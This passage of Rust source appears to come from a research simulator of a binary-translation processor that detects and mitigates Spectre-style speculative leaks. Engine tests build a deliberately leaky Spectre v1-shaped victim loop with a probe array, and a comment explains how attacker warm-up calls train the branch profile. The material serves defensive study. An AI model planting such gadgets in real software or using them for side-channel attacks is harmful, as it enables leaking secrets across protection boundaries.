                    }
                    None => {
                        elements.push(PathElement { pc, inst, follow_taken: None });
                        return Ok(GuestPath {
                            entry_pc,
                            elements,
                            fallthrough: Some(pc + 4),
                            merged_blocks,
                        });
                    }
                }
            }
            Inst::Jal { rd, offset } => {
                elements.push(PathElement { pc, inst, follow_taken: None });
                let target = pc.wrapping_add(offset as u64);
                if rd == Reg::ZERO || rd == Reg::RA {
                    // Follow unconditional jumps and inline direct calls.
                    merged_blocks += 1;
                    pc = target;
                } else {
                    return Ok(GuestPath {
                        entry_pc,
                        elements,
                        fallthrough: Some(target),
                        merged_blocks,
                    });
                }
            }
            Inst::Jalr { .. } | Inst::Ecall | Inst::Ebreak => {
                elements.push(PathElement { pc, inst, follow_taken: None });
                return Ok(GuestPath { entry_pc, elements, fallthrough: None, merged_blocks });
            }
            _ => {
                elements.push(PathElement { pc, inst, follow_taken: None });
                pc += 4;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dbt_riscv::{Assembler, Reg};

    /// a small victim: loop with a biased branch guarding two loads.
    fn sample_memory() -> (GuestMemory, u64) {
        let mut asm = Assembler::new();
        let buf = asm.alloc_data("buf", 64);
        let body = asm.new_label();
        let skip = asm.new_label();
        asm.li(Reg::T0, 10); // counter
        asm.bind(body);
        asm.li(Reg::T1, 4);
        asm.bge(Reg::T0, Reg::T1, skip); // mostly taken at first, later not
        asm.la(Reg::A0, buf);
        asm.lb(Reg::A1, Reg::A0, 0);
        asm.bind(skip);
        asm.addi(Reg::T0, Reg::T0, -1);
        asm.bnez(Reg::T0, body);
        asm.ecall();
        let program = asm.assemble().unwrap();
        let entry = program.entry();
        (program.build_memory().unwrap(), entry)
    }

    #[test]
    fn basic_block_stops_at_first_branch() {
        let (mem, entry) = sample_memory();
        let config = DbtConfig::default();
        let path = build_basic_block(&mem, entry, &config).unwrap();
        assert!(!path.is_empty());
        assert_eq!(path.merged_blocks, 1);
        assert!(matches!(path.elements.last().unwrap().inst, Inst::Branch { .. }));
        assert!(path.fallthrough.is_some());
    }

    #[test]
    fn superblock_follows_biased_branches() {
        let (mem, entry) = sample_memory();
        let config = DbtConfig::default();
        let mut profile = Profile::new();
        // Find the first branch PC by walking the basic block.
        let first = build_basic_block(&mem, entry, &config).unwrap();
        let branch_pc = first.elements.last().unwrap().pc;
        for _ in 0..20 {
            profile.record_branch(branch_pc, true);
        }
        let trace = build_superblock(&mem, entry, &profile, &config).unwrap();
        assert!(trace.merged_blocks > 1, "biased branch should be merged through");
        assert!(trace.len() > first.len());
        let element = trace.elements.iter().find(|e| e.pc == branch_pc).unwrap();
        assert_eq!(element.follow_taken, Some(true));
    }

    #[test]
    fn superblock_stops_at_unbiased_branch() {
        let (mem, entry) = sample_memory();
        let config = DbtConfig::default();
        let profile = Profile::new();
        let trace = build_superblock(&mem, entry, &profile, &config).unwrap();
        assert_eq!(trace.merged_blocks, 1);
        assert!(matches!(trace.elements.last().unwrap().inst, Inst::Branch { .. }));
    }

    #[test]
    fn trace_length_is_bounded() {
        // An infinite loop: jal to itself.
        let mut asm = Assembler::new();
        let spin = asm.new_label();
        asm.bind(spin);
        asm.nop();
        asm.jump(spin);
        let program = asm.assemble().unwrap();
        let mem = program.build_memory().unwrap();
        let config = DbtConfig { max_trace_guest_insts: 10, ..DbtConfig::default() };
        let trace = build_superblock(&mem, program.entry(), &Profile::new(), &config).unwrap();
        assert!(trace.len() <= 10);
        assert!(trace.fallthrough.is_some());
    }

    #[test]
    fn ecall_ends_path_without_fallthrough() {
        let mut asm = Assembler::new();
        asm.nop();
        asm.ecall();
        let program = asm.assemble().unwrap();
        let mem = program.build_memory().unwrap();
        let path = build_basic_block(&mem, program.entry(), &DbtConfig::default()).unwrap();
        assert_eq!(path.fallthrough, None);
        assert!(matches!(path.elements.last().unwrap().inst, Inst::Ecall));
    }

    #[test]
    fn fetch_error_is_reported() {
        let mem = GuestMemory::new(16);
        assert!(matches!(
            build_basic_block(&mem, 64, &DbtConfig::default()),
            Err(DbtError::Fetch { pc: 64 })
        ));
        // All-zero memory decodes to an invalid instruction.
        assert!(matches!(
            build_basic_block(&mem, 0, &DbtConfig::default()),
            Err(DbtError::Decode(_))
        ));
    }
}
