//! The DBT engine: ties decoding, profiling, trace construction, mitigation,
//! scheduling and code generation together.

use crate::config::DbtConfig;
use crate::profile::Profile;
use crate::schedule::ScheduleError;
use crate::service::{compile_path, CompileProduct, TranslationService};
use crate::tcache::{Tier, TranslationCache};
use crate::trace_builder::{build_basic_block, build_superblock, GuestPath};
use dbt_ir::BlockKind;
use dbt_riscv::{DecodeError, GuestMemory, Inst};
use dbt_vliw::TranslatedBlock;
use ghostbusters::report::MitigationSummary;
use ghostbusters::MitigationReport;
use spectaint::LeakageVerdict;
use std::collections::HashMap;
use std::fmt;
use std::sync::Arc;

/// Errors produced by the DBT engine.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DbtError {
    /// A guest instruction word could not be fetched.
    Fetch {
        /// Faulting guest address.
        pc: u64,
    },
    /// A guest instruction word could not be decoded.
    Decode(DecodeError),
    /// The produced IR block violates a structural invariant.
    InvalidBlock {
        /// Entry PC of the block.
        pc: u64,
        /// Description of the violation.
        reason: String,
    },
    /// The scheduler failed (cannot happen for valid blocks).
    Schedule(ScheduleError),
}

impl fmt::Display for DbtError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DbtError::Fetch { pc } => write!(f, "cannot fetch guest instruction at {pc:#x}"),
            DbtError::Decode(e) => write!(f, "{e}"),
            DbtError::InvalidBlock { pc, reason } => {
                write!(f, "invalid IR block at {pc:#x}: {reason}")
            }
            DbtError::Schedule(e) => write!(f, "{e}"),
        }
    }
}

impl std::error::Error for DbtError {}

impl From<DecodeError> for DbtError {
    fn from(e: DecodeError) -> Self {
        DbtError::Decode(e)
    }
}

impl From<ScheduleError> for DbtError {
    fn from(e: ScheduleError) -> Self {
        DbtError::Schedule(e)
    }
}

/// Translation-side counters.
///
/// `basic_translations` and `superblock_translations` count per-run
/// translation *events* — they are identical whether or not a
/// [`TranslationService`] is attached, so per-run observables stay
/// byte-stable. `service_hits` / `service_misses` record how many of those
/// events were served from the shared memo vs. compiled here.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct EngineStats {
    /// First-pass (basic block) translations performed.
    pub basic_translations: u64,
    /// Optimised superblock translations performed.
    pub superblock_translations: u64,
    /// Guest instructions covered by all translations.
    pub guest_insts_translated: u64,
    /// Translation events answered by the attached service's memo.
    pub service_hits: u64,
    /// Translation events this engine had to compile (or that had no
    /// service attached).
    pub service_misses: u64,
}

/// Metadata remembered about a translated basic block so branch outcomes can
/// be attributed to the right guest branch.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct BranchMeta {
    branch_pc: u64,
    taken_target: u64,
    fallthrough: u64,
}

/// The Dynamic Binary Translation engine.
///
/// The platform drives it with two calls per executed block:
/// [`DbtEngine::block_for`] to obtain (and, if needed, produce) a
/// translation for the current guest PC, and [`DbtEngine::note_block_exit`]
/// to feed branch outcomes back into the profile.
#[derive(Debug, Clone)]
pub struct DbtEngine {
    config: DbtConfig,
    profile: Profile,
    tcache: TranslationCache,
    branch_meta: HashMap<u64, BranchMeta>,
    summary: MitigationSummary,
    reports: Vec<(u64, MitigationReport)>,
    stats: EngineStats,
    service: Option<ServiceBinding>,
}

/// A [`TranslationService`] attachment: the shared memo plus the identity
/// of the program this engine translates.
#[derive(Debug, Clone)]
struct ServiceBinding {
    service: Arc<TranslationService>,
    program_fingerprint: u64,
}

impl DbtEngine {
    /// Creates an engine with the given configuration and no shared
    /// translation service (every translation is compiled locally).
    ///
    /// # Panics
    ///
    /// Panics if the configuration is out of range (see
    /// [`DbtConfig::is_valid`]).
    pub fn new(config: DbtConfig) -> DbtEngine {
        assert!(config.is_valid(), "invalid DBT configuration: {config:?}");
        DbtEngine {
            config,
            profile: Profile::new(),
            tcache: TranslationCache::new(),
            branch_meta: HashMap::new(),
            summary: MitigationSummary::new(),
            reports: Vec::new(),
            stats: EngineStats::default(),
            service: None,
        }
    }

    /// Creates an engine that resolves translations through a shared
    /// [`TranslationService`], memoized under `program_fingerprint` (see
    /// [`dbt_riscv::Program::fingerprint`]).
    ///
    /// Attaching a service never changes what a run computes — memoized
    /// products are pure functions of the same inputs a local compile would
    /// see — it only removes redundant compile work across engines.
    ///
    /// # Panics
    ///
    /// Panics if the configuration is out of range (see
    /// [`DbtConfig::is_valid`]).
    pub fn with_service(
        config: DbtConfig,
        service: Arc<TranslationService>,
        program_fingerprint: u64,
    ) -> DbtEngine {
        let mut engine = DbtEngine::new(config);
        engine.service = Some(ServiceBinding { service, program_fingerprint });
        engine
    }

    /// The attached translation service, if any.
    pub fn service(&self) -> Option<&Arc<TranslationService>> {
        self.service.as_ref().map(|binding| &binding.service)
    }

    /// The engine configuration.
    pub fn config(&self) -> &DbtConfig {
        &self.config
    }

    /// The accumulated execution profile.
    pub fn profile(&self) -> &Profile {
        &self.profile
    }

    /// Translation statistics.
    pub fn stats(&self) -> &EngineStats {
        &self.stats
    }

    /// Aggregate of every mitigation report produced so far.
    pub fn mitigation_summary(&self) -> &MitigationSummary {
        &self.summary
    }

    /// Per-superblock mitigation reports, keyed by entry PC.
    pub fn mitigation_reports(&self) -> &[(u64, MitigationReport)] {
        &self.reports
    }

    /// The translation cache (exposed for inspection in examples/tests).
    pub fn tcache(&self) -> &TranslationCache {
        &self.tcache
    }

    /// Resolves one compile: through the attached service's memo when one
    /// is bound, locally otherwise. Records the mitigation report (for
    /// optimised blocks) and the service counters; the products are
    /// identical either way, since both paths run the same pure pipeline.
    fn obtain(&mut self, path: &GuestPath, kind: BlockKind) -> Result<CompileProduct, DbtError> {
        let product = match &self.service {
            Some(binding) => {
                let translated = binding.service.translate(
                    binding.program_fingerprint,
                    &self.config,
                    path,
                    kind,
                )?;
                if translated.cache_hit {
                    self.stats.service_hits += 1;
                } else {
                    self.stats.service_misses += 1;
                }
                translated.product
            }
            None => {
                self.stats.service_misses += 1;
                compile_path(&self.config, path, kind)?
            }
        };
        if let Some(analysed) = &product.analysed {
            self.summary.record(&analysed.report);
            self.reports.push((analysed.ir.entry_pc(), (*analysed.report).clone()));
        }
        Ok(product)
    }

    fn remember_branch_meta(&mut self, path: &GuestPath) {
        if let Some(last) = path.elements.last() {
            if let Inst::Branch { offset, .. } = last.inst {
                self.branch_meta.insert(
                    path.entry_pc,
                    BranchMeta {
                        branch_pc: last.pc,
                        taken_target: last.pc.wrapping_add(offset as u64),
                        fallthrough: last.pc + 4,
                    },
                );
            }
        }
    }

    /// Returns a translation for the block starting at `pc`, producing one
    /// if necessary.
    ///
    /// The first-pass translation of a block is a conservative basic block;
    /// once the block has been entered [`DbtConfig::hot_threshold`] times it
    /// is re-translated as a profile-guided superblock with speculation and
    /// the configured mitigation.
    ///
    /// # Errors
    ///
    /// Returns a [`DbtError`] if guest code cannot be fetched, decoded or
    /// translated.
    pub fn block_for(
        &mut self,
        pc: u64,
        mem: &GuestMemory,
    ) -> Result<Arc<TranslatedBlock>, DbtError> {
        if let Some((block, Tier::Optimized)) = self.tcache.lookup(pc) {
            return Ok(block);
        }
        let entries = self.profile.record_block_entry(pc);
        if entries >= self.config.hot_threshold {
            let path = build_superblock(mem, pc, &self.profile, &self.config)?;
            let kind = BlockKind::Superblock { merged_blocks: path.merged_blocks };
            let product = self.obtain(&path, kind)?;
            self.stats.superblock_translations += 1;
            self.stats.guest_insts_translated += path.len() as u64;
            let analysed = product.analysed.expect("optimised translations always carry a verdict");
            return Ok(self.tcache.insert_optimized_shared(
                pc,
                product.code,
                analysed.ir,
                analysed.verdict,
            ));
        }
        if let Some((block, Tier::Basic)) = self.tcache.lookup(pc) {
            return Ok(block);
        }
        let path = build_basic_block(mem, pc, &self.config)?;
        self.remember_branch_meta(&path);
        let product = self.obtain(&path, BlockKind::Basic)?;
        self.stats.basic_translations += 1;
        self.stats.guest_insts_translated += path.len() as u64;
        Ok(self.tcache.insert_shared(pc, Tier::Basic, product.code))
    }

    /// The leakage verdicts of every optimised translation, sorted by
    /// guest entry address.
    pub fn verdicts(&self) -> Vec<(u64, Arc<LeakageVerdict>)> {
        self.tcache.verdicts()
    }

    /// Feeds the outcome of one block execution back into the branch
    /// profile: `entry_pc` is the block that was executed, `next_pc` where
    /// execution continued.
    pub fn note_block_exit(&mut self, entry_pc: u64, next_pc: Option<u64>) {
        let Some(meta) = self.branch_meta.get(&entry_pc).copied() else { return };
        let Some(next_pc) = next_pc else { return };
        if next_pc == meta.taken_target {
            self.profile.record_branch(meta.branch_pc, true);
        } else if next_pc == meta.fallthrough {
            self.profile.record_branch(meta.branch_pc, false);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dbt_riscv::{Assembler, Reg};
    use ghostbusters::MitigationPolicy;

    fn victim_memory() -> (GuestMemory, u64) {
        // A loop whose body contains a bounds check guarding two dependent
        // loads — the Spectre v1 shape.
        let mut asm = Assembler::new();
        let buffer = asm.alloc_data("buffer", 16);
        let probe = asm.alloc_data("probe", 256 * 128);
        let size = asm.alloc_data_u64("size", &[16]);
        let loop_head = asm.new_label();
        let skip = asm.new_label();
        asm.li(Reg::S0, 40); // iterations
        asm.bind(loop_head);
        asm.andi(Reg::A0, Reg::S0, 0x7); // in-bounds index
        asm.la(Reg::T0, size);
        asm.ld(Reg::T0, Reg::T0, 0);
        asm.bgeu(Reg::A0, Reg::T0, skip);
        asm.la(Reg::T1, buffer);
        asm.add(Reg::T1, Reg::T1, Reg::A0);
        asm.lbu(Reg::T2, Reg::T1, 0);
        asm.slli(Reg::T2, Reg::T2, 7);
        asm.la(Reg::T3, probe);
        asm.add(Reg::T3, Reg::T3, Reg::T2);
        asm.lbu(Reg::T4, Reg::T3, 0);
        asm.bind(skip);
        asm.addi(Reg::S0, Reg::S0, -1);
        asm.bnez(Reg::S0, loop_head);
        asm.ecall();
        let program = asm.assemble().unwrap();
        (program.build_memory().unwrap(), program.entry())
    }

    #[test]
    fn basic_then_optimized_translation() {
        let (mem, entry) = victim_memory();
        let mut engine = DbtEngine::new(DbtConfig::unprotected());
        let first = engine.block_for(entry, &mem).unwrap();
        assert!(first.speculative_load_count() == 0, "first pass is conservative");
        assert_eq!(engine.stats().basic_translations, 1);
        // Drive the profile until the block is hot.
        for _ in 0..DbtConfig::default().hot_threshold + 1 {
            let _ = engine.block_for(entry, &mem).unwrap();
        }
        assert!(engine.tcache().has_optimized(entry));
        assert!(engine.stats().superblock_translations >= 1);
    }

    #[test]
    fn biased_branch_profile_produces_speculative_superblock() {
        let (mem, entry) = victim_memory();
        let mut engine = DbtEngine::new(DbtConfig::unprotected());
        // Record a heavily biased not-taken bounds check so the trace builder
        // merges the guarded loads into the superblock. We reproduce the
        // platform's feedback loop by reporting fall-through exits.
        let basic = engine.block_for(entry, &mem).unwrap();
        let _ = basic;
        // Find the branch meta the engine recorded and keep reporting
        // fall-through outcomes. (The first basic block of the loop body ends
        // at the bounds check.)
        for _ in 0..40 {
            engine.note_block_exit(entry, Some(entry + 4 * 6));
        }
        for _ in 0..DbtConfig::default().hot_threshold {
            let _ = engine.block_for(entry, &mem).unwrap();
        }
        let optimized = engine.block_for(entry, &mem).unwrap();
        assert!(engine.tcache().has_optimized(entry));
        // The superblock merges past the bounds check and speculates.
        assert!(optimized.bundles.len() > 1);
    }

    #[test]
    fn mitigation_summary_accumulates_for_superblocks() {
        let (mem, entry) = victim_memory();
        let mut engine = DbtEngine::new(DbtConfig::for_policy(MitigationPolicy::FineGrained));
        for _ in 0..40 {
            engine.note_block_exit(entry, Some(entry + 4 * 6));
        }
        for _ in 0..DbtConfig::default().hot_threshold + 1 {
            let _ = engine.block_for(entry, &mem).unwrap();
        }
        assert!(engine.mitigation_summary().blocks >= 1);
    }

    /// Heats the loop-head block (where the loop counter is a live-in, so
    /// the bounds check genuinely constrains the buffer index) and biases
    /// its bounds check towards fall-through.
    fn heat_loop_head(engine: &mut DbtEngine, mem: &GuestMemory, entry: u64) -> u64 {
        let loop_head = entry + 4; // past `li s0, 40`
        let _ = engine.block_for(loop_head, mem).unwrap();
        for _ in 0..40 {
            engine.note_block_exit(loop_head, Some(entry + 4 * 6));
        }
        for _ in 0..DbtConfig::default().hot_threshold + 1 {
            let _ = engine.block_for(loop_head, mem).unwrap();
        }
        loop_head
    }

    #[test]
    fn optimized_translations_cache_their_verdicts() {
        let (mem, entry) = victim_memory();
        let mut engine = DbtEngine::new(DbtConfig::unprotected());
        let _ = engine.block_for(entry, &mem).unwrap();
        assert!(engine.verdicts().is_empty(), "basic translations carry no verdict");
        let loop_head = heat_loop_head(&mut engine, &mem, entry);
        let verdicts = engine.verdicts();
        assert!(!verdicts.is_empty());
        // The loop body is the bounds-checked double load with a live-in
        // index: once the superblock merges past the check, the taint
        // analysis confirms the gadget.
        assert!(
            verdicts.iter().any(|(_, v)| !v.is_leak_free()),
            "the v1-shaped loop body must be flagged"
        );
        assert!(engine.tcache().verdict(loop_head).is_some());
        // Re-requesting the block must reuse the cache, not re-analyse.
        let before = engine.stats().superblock_translations;
        let _ = engine.block_for(loop_head, &mem).unwrap();
        assert_eq!(engine.stats().superblock_translations, before);
    }

    #[test]
    fn selective_policy_hardens_the_flagged_victim() {
        let (mem, entry) = victim_memory();
        let mut engine = DbtEngine::new(DbtConfig::selective());
        let _ = heat_loop_head(&mut engine, &mem, entry);
        let summary = engine.mitigation_summary();
        assert!(summary.gadgets > 0, "the victim loop carries a confirmed gadget");
        assert!(summary.hardened_edges > 0, "selective must constrain the flagged block");
    }

    #[test]
    fn fetch_outside_memory_is_an_error() {
        let mem = GuestMemory::new(64);
        let mut engine = DbtEngine::new(DbtConfig::unprotected());
        assert!(matches!(engine.block_for(0x1_0000, &mem), Err(DbtError::Fetch { .. })));
    }

    #[test]
    #[should_panic(expected = "invalid DBT configuration")]
    fn invalid_config_panics() {
        let mut config = DbtConfig::unprotected();
        config.issue_width = 0;
        let _ = DbtEngine::new(config);
    }
}
