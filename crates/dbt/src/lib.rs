//! The Dynamic Binary Translation engine of the simulated DBT-based
//! processor.
//!
//! The engine plays the role of the software layer of Transmeta
//! Crusoe/Efficeon, NVidia Denver or Hybrid-DBT: it reads guest (RISC-V)
//! binaries from memory, translates them into the VLIW target ISA, and
//! *optimises* them using run-time profile information. Two of those
//! optimisations are speculative and are the subject of the paper:
//!
//! * **trace construction + scheduling** — hot basic blocks are merged along
//!   the profiled hot path into superblocks; conditional branches along the
//!   path become side exits, and the scheduler may hoist loads and
//!   computations above them (the results live in hidden registers);
//! * **memory-dependency speculation** — loads may be hoisted above stores
//!   the engine cannot disambiguate; the Memory Conflict Buffer detects
//!   wrong guesses at run time and triggers a rollback.
//!
//! Before scheduling, the engine hands the block's dependency graph to the
//! GhostBusters countermeasure ([`ghostbusters::apply`]) configured by
//! [`DbtConfig::policy`]; the scheduler then honours whatever constraints
//! the mitigation re-inserted.
//!
//! The main entry point is [`DbtEngine`]. Engines created through
//! [`DbtEngine::with_service`] share a process-wide, thread-safe
//! [`TranslationService`]: a memoizing query layer that compiles each
//! distinct (program, path, speculation options, policy, issue width)
//! translation exactly once and hands every later run the cached product,
//! so a multi-policy sweep does not redo identical decode/trace/analysis
//! work per run.

pub mod codegen;
pub mod config;
pub mod engine;
pub mod profile;
pub mod regalloc;
pub mod schedule;
pub mod service;
pub mod tcache;
pub mod trace_builder;
pub mod translate;

pub use config::DbtConfig;
pub use engine::{DbtEngine, DbtError, EngineStats};
pub use profile::Profile;
pub use schedule::{Schedule, ScheduleError};
pub use service::{
    AnalysedProduct, AnalysisProduct, CompileProduct, ServiceStats, Translated, TranslationService,
    DEFAULT_SERVICE_CAPACITY,
};
pub use tcache::{CachedTranslation, Tier, TranslationCache};
pub use trace_builder::{GuestPath, PathElement};
pub use translate::translate_path;
