//! Run-time profile collected by the DBT engine.

use std::collections::HashMap;

/// Outcome counters of one conditional branch.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct BranchCounters {
    /// Times the branch was taken.
    pub taken: u64,
    /// Times the branch fell through.
    pub not_taken: u64,
}

impl BranchCounters {
    /// Total observations.
    pub fn total(&self) -> u64 {
        self.taken + self.not_taken
    }

    /// Fraction of taken outcomes (0.5 when never observed).
    pub fn taken_ratio(&self) -> f64 {
        let total = self.total();
        if total == 0 {
            0.5
        } else {
            self.taken as f64 / total as f64
        }
    }
}

/// Execution profile: per-block entry counts and per-branch outcome
/// counters.
///
/// The profile is what turns the DBT engine into the analogue of a trained
/// branch predictor: the attacker's warm-up calls with in-bounds indexes
/// bias the bounds-check branch, so the trace builder merges the `then`
/// block into the superblock and the scheduler hoists its loads.
#[derive(Debug, Clone, Default)]
pub struct Profile {
    block_entries: HashMap<u64, u64>,
    branches: HashMap<u64, BranchCounters>,
}

impl Profile {
    /// Creates an empty profile.
    pub fn new() -> Profile {
        Profile::default()
    }

    /// Records one execution of the block starting at `pc` and returns the
    /// updated count.
    pub fn record_block_entry(&mut self, pc: u64) -> u64 {
        let count = self.block_entries.entry(pc).or_insert(0);
        *count += 1;
        *count
    }

    /// Number of recorded executions of the block starting at `pc`.
    pub fn block_entries(&self, pc: u64) -> u64 {
        self.block_entries.get(&pc).copied().unwrap_or(0)
    }

    /// Records one outcome of the conditional branch at `pc`.
    pub fn record_branch(&mut self, pc: u64, taken: bool) {
        let counters = self.branches.entry(pc).or_default();
        if taken {
            counters.taken += 1;
        } else {
            counters.not_taken += 1;
        }
    }

    /// Outcome counters of the branch at `pc`.
    pub fn branch(&self, pc: u64) -> BranchCounters {
        self.branches.get(&pc).copied().unwrap_or_default()
    }

    /// Returns `Some(true)` if the branch at `pc` is biased taken with at
    /// least `threshold` confidence, `Some(false)` if biased not-taken, and
    /// `None` if it has no strong bias (or was never observed).
    pub fn biased_direction(&self, pc: u64, threshold: f64) -> Option<bool> {
        let counters = self.branch(pc);
        if counters.total() == 0 {
            return None;
        }
        let ratio = counters.taken_ratio();
        if ratio >= threshold {
            Some(true)
        } else if (1.0 - ratio) >= threshold {
            Some(false)
        } else {
            None
        }
    }

    /// Number of distinct blocks observed.
    pub fn observed_blocks(&self) -> usize {
        self.block_entries.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn block_entry_counting() {
        let mut p = Profile::new();
        assert_eq!(p.block_entries(0x100), 0);
        assert_eq!(p.record_block_entry(0x100), 1);
        assert_eq!(p.record_block_entry(0x100), 2);
        assert_eq!(p.block_entries(0x100), 2);
        assert_eq!(p.observed_blocks(), 1);
    }

    #[test]
    fn branch_bias_detection() {
        let mut p = Profile::new();
        assert_eq!(p.biased_direction(0x200, 0.9), None);
        for _ in 0..19 {
            p.record_branch(0x200, false);
        }
        p.record_branch(0x200, true);
        assert_eq!(p.branch(0x200).total(), 20);
        assert_eq!(p.biased_direction(0x200, 0.9), Some(false));
        assert_eq!(p.biased_direction(0x200, 0.99), None);

        let mut p = Profile::new();
        for _ in 0..10 {
            p.record_branch(0x300, true);
        }
        assert_eq!(p.biased_direction(0x300, 0.9), Some(true));
    }

    #[test]
    fn unbiased_branch_has_no_direction() {
        let mut p = Profile::new();
        for i in 0..10 {
            p.record_branch(0x400, i % 2 == 0);
        }
        assert_eq!(p.biased_direction(0x400, 0.9), None);
        assert!((p.branch(0x400).taken_ratio() - 0.5).abs() < 1e-9);
    }
}
