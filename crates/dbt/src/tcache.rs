//! Translation cache: maps guest entry addresses to translated blocks and,
//! for optimised translations, to their cached leakage verdicts.

use dbt_ir::IrBlock;
use dbt_vliw::TranslatedBlock;
use spectaint::LeakageVerdict;
use std::collections::HashMap;
use std::sync::Arc;

/// The tier of a cached translation.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Tier {
    /// First-pass translation of a single basic block, no speculation.
    Basic,
    /// Profile-guided superblock with speculation (and mitigation) applied.
    Optimized,
}

/// One optimised cache entry: the generated code plus the speculative
/// taint verdict of the block it was compiled from.
///
/// The verdict is computed exactly once, at translation time, and rides in
/// the cache so later consumers (the `Selective` policy already consumed
/// it, the `lab analyze` CLI and the differential tests read it back) never
/// re-run the analysis.
#[derive(Debug, Clone)]
pub struct CachedTranslation {
    /// The scheduled VLIW code.
    pub code: Arc<TranslatedBlock>,
    /// The IR block the code was compiled (and analysed) from, kept so the
    /// verdict can be projected back onto the exact translation-time shape
    /// (`lab analyze --dot`) without re-deriving it from a profile that has
    /// moved on since.
    pub ir: Option<Arc<IrBlock>>,
    /// The block's leakage verdict (`None` for translations inserted
    /// through the verdict-less [`TranslationCache::insert`]).
    pub verdict: Option<Arc<LeakageVerdict>>,
}

/// Cache of translated blocks, two tiers deep.
///
/// An optimised translation always shadows the basic one for the same entry
/// address.
#[derive(Debug, Clone, Default)]
pub struct TranslationCache {
    basic: HashMap<u64, Arc<TranslatedBlock>>,
    optimized: HashMap<u64, CachedTranslation>,
}

impl TranslationCache {
    /// Creates an empty cache.
    pub fn new() -> TranslationCache {
        TranslationCache::default()
    }

    /// Looks up the best available translation for `pc`.
    pub fn lookup(&self, pc: u64) -> Option<(Arc<TranslatedBlock>, Tier)> {
        if let Some(entry) = self.optimized.get(&pc) {
            return Some((Arc::clone(&entry.code), Tier::Optimized));
        }
        self.basic.get(&pc).map(|block| (Arc::clone(block), Tier::Basic))
    }

    /// Returns `true` if an optimised translation exists for `pc`.
    pub fn has_optimized(&self, pc: u64) -> bool {
        self.optimized.contains_key(&pc)
    }

    /// Inserts a translation at the given tier, returning a shared handle.
    ///
    /// Optimised translations inserted through this method carry no
    /// verdict; the engine uses [`TranslationCache::insert_optimized`].
    pub fn insert(&mut self, pc: u64, tier: Tier, block: TranslatedBlock) -> Arc<TranslatedBlock> {
        self.insert_shared(pc, tier, Arc::new(block))
    }

    /// Inserts an already-shared translation at the given tier (the
    /// engine's path when a translation comes out of the cross-run
    /// [`TranslationService`](crate::TranslationService) memo).
    pub fn insert_shared(
        &mut self,
        pc: u64,
        tier: Tier,
        block: Arc<TranslatedBlock>,
    ) -> Arc<TranslatedBlock> {
        match tier {
            Tier::Basic => {
                self.basic.insert(pc, Arc::clone(&block));
            }
            Tier::Optimized => {
                self.optimized.insert(
                    pc,
                    CachedTranslation { code: Arc::clone(&block), ir: None, verdict: None },
                );
            }
        };
        block
    }

    /// Inserts an optimised translation together with the IR block it was
    /// compiled from and its leakage verdict.
    pub fn insert_optimized(
        &mut self,
        pc: u64,
        block: TranslatedBlock,
        ir: IrBlock,
        verdict: LeakageVerdict,
    ) -> Arc<TranslatedBlock> {
        self.insert_optimized_shared(pc, Arc::new(block), Arc::new(ir), Arc::new(verdict))
    }

    /// [`TranslationCache::insert_optimized`] for products that are already
    /// behind `Arc`s (shared with the cross-run service memo).
    pub fn insert_optimized_shared(
        &mut self,
        pc: u64,
        code: Arc<TranslatedBlock>,
        ir: Arc<IrBlock>,
        verdict: Arc<LeakageVerdict>,
    ) -> Arc<TranslatedBlock> {
        self.optimized.insert(
            pc,
            CachedTranslation { code: Arc::clone(&code), ir: Some(ir), verdict: Some(verdict) },
        );
        code
    }

    /// The cached verdict of the optimised translation at `pc`, if any.
    pub fn verdict(&self, pc: u64) -> Option<Arc<LeakageVerdict>> {
        self.optimized.get(&pc).and_then(|entry| entry.verdict.clone())
    }

    /// Every cached verdict, sorted by entry address (deterministic).
    pub fn verdicts(&self) -> Vec<(u64, Arc<LeakageVerdict>)> {
        let mut all: Vec<(u64, Arc<LeakageVerdict>)> = self
            .optimized
            .iter()
            .filter_map(|(pc, entry)| entry.verdict.clone().map(|v| (*pc, v)))
            .collect();
        all.sort_by_key(|(pc, _)| *pc);
        all
    }

    /// Every cached `(IR block, verdict)` pair, sorted by entry address.
    pub fn analyzed(&self) -> Vec<(u64, Arc<IrBlock>, Arc<LeakageVerdict>)> {
        let mut all: Vec<(u64, Arc<IrBlock>, Arc<LeakageVerdict>)> = self
            .optimized
            .iter()
            .filter_map(|(pc, entry)| match (&entry.ir, &entry.verdict) {
                (Some(ir), Some(v)) => Some((*pc, Arc::clone(ir), Arc::clone(v))),
                _ => None,
            })
            .collect();
        all.sort_by_key(|(pc, _, _)| *pc);
        all
    }

    /// Number of cached translations (both tiers).
    pub fn len(&self) -> usize {
        self.basic.len() + self.optimized.len()
    }

    /// Returns `true` if nothing has been translated yet.
    pub fn is_empty(&self) -> bool {
        self.basic.is_empty() && self.optimized.is_empty()
    }

    /// Removes every cached translation (used when the mitigation policy is
    /// changed at run time).
    pub fn clear(&mut self) {
        self.basic.clear();
        self.optimized.clear();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn dummy_block(pc: u64) -> TranslatedBlock {
        TranslatedBlock {
            entry_pc: pc,
            bundles: vec![],
            phys_reg_count: 0,
            recovery: vec![],
            guest_inst_count: 0,
        }
    }

    fn dummy_verdict(pc: u64) -> LeakageVerdict {
        LeakageVerdict {
            entry_pc: pc,
            block_len: 1,
            sources: vec![],
            tainted_values: vec![],
            transmitters: vec![],
            gadgets: vec![],
        }
    }

    fn dummy_ir(pc: u64) -> IrBlock {
        let mut block = IrBlock::new(pc, dbt_ir::BlockKind::Basic);
        block.push(dbt_ir::IrOp::Halt, pc, 0);
        block
    }

    #[test]
    fn optimized_shadows_basic() {
        let mut cache = TranslationCache::new();
        assert!(cache.lookup(0x100).is_none());
        cache.insert(0x100, Tier::Basic, dummy_block(0x100));
        assert_eq!(cache.lookup(0x100).unwrap().1, Tier::Basic);
        cache.insert(0x100, Tier::Optimized, dummy_block(0x100));
        assert_eq!(cache.lookup(0x100).unwrap().1, Tier::Optimized);
        assert!(cache.has_optimized(0x100));
        assert_eq!(cache.len(), 2);
    }

    #[test]
